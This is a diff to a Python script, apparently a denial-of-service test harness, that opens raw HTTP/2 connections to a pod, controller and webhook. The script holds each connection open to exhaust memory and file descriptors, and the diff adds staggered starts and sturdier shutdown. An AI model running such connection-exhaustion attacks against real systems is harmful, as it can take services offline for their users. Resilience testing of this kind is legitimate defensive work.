@@ -3,13 +3,15 @@
     python3 attacks.py SECONDS POD_IP PORT CONTROLLER_IP WEBHOOK_HOST
 
 It speaks in bare bytes, so that nothing polite stands between it and its victims. Every attack opens its connections
-once, holds what it can hold and comes again when it is thrown out, with a pause: it tries to exhaust memory, places and
-descriptors, not the machine's processors, which it shares with those it attacks. Prints how often each came through.
+once, one after another, holds what it can hold and comes again when it is thrown out, with a pause: it tries to exhaust
+memory, places and descriptors, not the machine's processors, which it shares with those it attacks. Prints how often
+each came through.
 """
 
 import asyncio
 import json
 import os
+import random
 import ssl
 import struct
 import sys
@@ -19,12 +21,16 @@ from collections.abc import Awaitable, Callable
 PAUSE_S = 0.3
 """Seconds before an attacker who was thrown out comes again."""
 
+OPENING_S = 4.0
+"""Seconds within which all attackers have come for the first time."""
+
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 4, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 INITIAL_WINDOW_SIZE = 4
 
 seen: Counter[str] = Counter()
+comes_after_s = random.Random(1).uniform
 
 
 def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
@@ -60,6 +66,7 @@ class Victim:
 
     async def hold(self, name: str, first: bytes, then: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> None:
         """Open, say `first`, go on with `then`, until thrown out; then again."""
+        await asyncio.sleep(comes_after_s(0, OPENING_S))
         while True:
             try:
                 reader, writer = await asyncio.open_connection(self.host, self.port, ssl=self.tls)
@@ -223,10 +230,12 @@ async def main() -> None:
     seconds, pod_ip, port, controller_ip, webhook_host = sys.argv[1:]
     work = [asyncio.ensure_future(one) for one in attacks(pod_ip, int(port), controller_ip, webhook_host)]
     await asyncio.sleep(float(seconds))
-    for one in work:
-        one.cancel()
-    outcomes = await asyncio.gather(*work, return_exceptions=True)
-    faults = Counter(repr(outcome) for outcome in outcomes if isinstance(outcome, Exception))
+    pending = set(work)
+    while pending:  # who is thrown out in this very moment hears that instead, and goes on
+        for one in pending:
+            one.cancel()
+        _, pending = await asyncio.wait(pending, timeout=1)
+    faults = Counter(repr(one.exception()) for one in work if not one.cancelled() and one.exception())
     print(json.dumps({"came": dict(seen), "faults": dict(faults)}))
 
 
